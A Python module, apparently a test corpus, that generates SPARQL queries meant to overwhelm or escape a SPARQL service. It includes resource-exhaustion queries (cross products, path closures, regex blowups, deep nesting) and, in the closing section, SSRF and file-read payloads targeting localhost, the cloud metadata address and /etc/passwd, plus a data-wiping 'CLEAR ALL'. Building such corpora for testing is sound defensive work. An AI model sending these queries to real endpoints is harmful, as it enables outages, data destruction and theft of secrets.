"""Queries that want to bring a SPARQL service down, each in its own way."""

from collections.abc import Mapping
from types import MappingProxyType

ANY = "?a ?b ?c"
TWO = f"{ANY} . ?d ?e ?f"
THREE = f"{TWO} . ?g ?h ?i"
STEP = "(<x:y>|!<x:y>)"
"""A path over any property."""


def nested(opening: str, closing: str, times: int, middle: str = "") -> str:
    """Nest something in brackets so many times."""
    return opening * times + middle + closing * times


def doubled(times: int) -> str:
    """Double a string so many times."""
    steps = " ".join(f"BIND(CONCAT(?s{n}, ?s{n}) AS ?s{n + 1})" for n in range(times))
    return f"BIND('{'x' * 1000}' AS ?s0) {steps}"


def patterns(times: int, line: str) -> str:
    """Write so many patterns, each with its number in the place of `#`."""
    return " . ".join(line.replace("#", str(n)) for n in range(times))


ROWS = " ".join(f"({n})" for n in range(10_000))
NUMBERS = ", ".join(map(str, range(20_000)))
CORPUS: Mapping[str, str] = MappingProxyType(
    {
        # Cross products, and all that can be done with them.
        "product, counted": f"SELECT (COUNT(*) AS ?n) {{ {THREE} }}",
        "product, streamed": f"SELECT * {{ {THREE} }}",
        "product, ordered": f"SELECT * {{ {TWO} }} ORDER BY ?f ?a",
        "product, grouped": f"SELECT ?a ?f (COUNT(*) AS ?n) {{ {TWO} }} GROUP BY ?a ?f",
        "product, distinct": f"SELECT DISTINCT ?a ?d {{ {TWO} }}",
        "product, counted distinct": f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {TWO} }}",
        "product, concatenated": f"SELECT (GROUP_CONCAT(?c) AS ?all) {{ {TWO} }}",
        "product, hashed": f"SELECT (MAX(SHA512(CONCAT(STR(?a), STR(?f)))) AS ?n) {{ {TWO} }}",
        "product, of graphs": f"SELECT (COUNT(*) AS ?n) {{ GRAPH ?x {{ {ANY} }} GRAPH ?y {{ ?d ?e ?f }} {ANY} }}",
        "product, far away": f"SELECT * {{ {THREE} }} OFFSET 1000000000000 LIMIT 1",
        "product, constructed": f"CONSTRUCT {{ ?a ?e ?f }} WHERE {{ {TWO} }}",
        "product, described": f"DESCRIBE ?a ?d {{ {TWO} }}",
        "product, asked in vain": f"ASK {{ {TWO} FILTER(STRLEN(STR(?a)) > 1000000) }}",
        "product, at random": f"SELECT * {{ {TWO} }} ORDER BY RAND()",
        "product, of values": f"SELECT (COUNT(*) AS ?n) {{ VALUES (?x) {{ {ROWS} }} VALUES (?y) {{ {ROWS} }} {ANY} }}",
        "product, optional": f"SELECT (COUNT(*) AS ?n) {{ {ANY} OPTIONAL {{ ?d ?e ?f OPTIONAL {{ ?g ?h ?i }} }} }}",
        "product, subtracted": f"SELECT (COUNT(*) AS ?n) {{ {TWO} MINUS {{ ?a ?e ?f . ?g ?h ?i }} }}",
        "product, that exists": f"SELECT * {{ {ANY} FILTER NOT EXISTS {{ ?d ?e ?f . ?g ?h ?i FILTER(?f = ?a + 1) }} }}",
        "product, of subqueries": f"SELECT * {{ {{ SELECT ?a {{ {ANY} }} }} {{ SELECT ?d {{ ?d ?e ?f }} ORDER BY ?f }} }}",
        # Closures over everything.
        "closure": f"SELECT (COUNT(*) AS ?n) {{ ?a {STEP}* ?b }}",
        "closure of closures": f"SELECT * {{ ?a {STEP}* ?b . ?b {STEP}* ?c . ?c {STEP}* ?d }}",
        "closure both ways": f"SELECT (COUNT(*) AS ?n) {{ ?a ({STEP}|^{STEP})+ ?b }}",
        "closure, star of stars": f"SELECT (COUNT(*) AS ?n) {{ ?a ((({STEP}*)*)*/{STEP}*)* ?b }}",
        # Texts.
        "string, doubled": f"SELECT (STRLEN(?s40) AS ?n) {{ {doubled(40)} }}",
        "string, replaced": "SELECT (STRLEN(?t) AS ?n) { "
        + doubled(12)
        + " BIND(REPLACE(?s12, 'x', ?s12) AS ?t) }",
        "string, huge": f"SELECT ('{'x' * 200_000}' AS ?x) {{ {TWO} }}",
        "string, matched": f"SELECT * {{ {TWO} FILTER(REGEX(CONCAT(STR(?a), STR(?f)), '^(([a-z])+.)+[A-Z]([a-z])+$')) }}",
        "expression that explodes": f"SELECT * {{ {ANY} FILTER(REGEX(STR(?a), '((((a{{99}}){{99}}){{99}}){{99}})')) }}",
        "expression of every row": f"SELECT * {{ {TWO} FILTER(REGEX(STR(?a), STR(?f))) }}",
        # Nesting of every bracket and operator.
        "nested groups": f"SELECT * WHERE {nested('{', '}', 60_000)}",
        "nested parentheses": f"SELECT * {{ FILTER {nested('(', ')', 60_000, '1')} }}",
        "nested lists": f"SELECT * {{ {nested('(', ')', 60_000, '1')} ?p ?o }}",
        "nested blank nodes": f"SELECT * {{ ?s ?p {nested('[ ?p ', ']', 30_000, '1')} }}",
        "nested functions": f"SELECT ({nested('STR(', ')', 40_000, '1')} AS ?x) {{}}",
        "nested options": f"SELECT * {{ {nested('OPTIONAL { ?a ?b ?c ', '}', 8_000)} }}",
        "nested denials": f"SELECT * {{ {ANY} {nested('FILTER NOT EXISTS { ?a ?b ?c ', '}', 6_000)} }}",
        "nested subqueries": f"{nested('SELECT * { ', '}', 10_000, ANY)}",
        "nested paths": f"SELECT * {{ ?a {nested('(', ')*', 60_000, 'a')} ?b }}",
        "many nots": f"SELECT * {{ FILTER({'!' * 200_000}true) }}",
        "many minuses": f"SELECT ({'- ' * 100_000}1 AS ?x) {{}}",
        "many carets": f"SELECT * {{ ?a {'^' * 200_000}a ?b }}",
        "many sums": f"SELECT ({'1+' * 100_000}1 AS ?x) {{}}",
        "many ors": f"SELECT * {{ {ANY} FILTER({'?a = ?b || ' * 20_000}true) }}",
        "many steps": f"SELECT * {{ ?a {'a/' * 100_000}a ?b }}",
        "many choices": f"SELECT * {{ ?a ({'a|' * 100_000}a)* ?b }}",
        # Bombs for the planner.
        "300 patterns apart": f"SELECT * {{ {patterns(300, '?a# ?b# ?c#')} }}",
        "300 patterns in a star": f"SELECT * {{ {patterns(300, '?a ?b# ?c#')} }}",
        "300 patterns in a chain": f"SELECT * {{ {patterns(300, '?a# ?b ?c# . ?c# ?d ?a#')} }}",
        "5,000 alternatives": f"SELECT * {{ {' UNION '.join(['{ ?a ?b ?c }'] * 5_000)} }}",
        "5,000 bindings": f"SELECT * {{ {ANY} {' '.join(f'BIND(?a AS ?x{n})' for n in range(5_000))} }}",
        "20,000 numbers": f"SELECT (COUNT(*) AS ?n) {{ {TWO} FILTER(?c IN ({NUMBERS})) }}",
        "10,000 columns": f"SELECT {' '.join(f'(?a AS ?x{n})' for n in range(10_000))} {{ {ANY} }}",
        # Ways out.
        "service on this machine": "SELECT * { SERVICE <http://127.0.0.1:22/> { ?s ?p ?o } }",
        "service of a cloud": "SELECT * { SERVICE SILENT <http://169.254.169.254/latest/meta-data/> { ?s ?p ?o } }",
        "service by a variable": "SELECT * { BIND(<http://127.0.0.1:22/> AS ?x) SERVICE ?x { ?s ?p ?o } }",
        "service in disguise": "SELECT * { \\u0053ERVIC\\U00000045 <http://127.0.0.1:22/> { ?s ?p ?o } }",
        "file as a graph": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
        "address as a graph": "SELECT * FROM <http://127.0.0.1:22/> FROM NAMED <http://127.0.0.1/> { ?s ?p ?o }",
        "load": "LOAD <file:///etc/passwd>",
        "clear": "CLEAR ALL",
    }
)
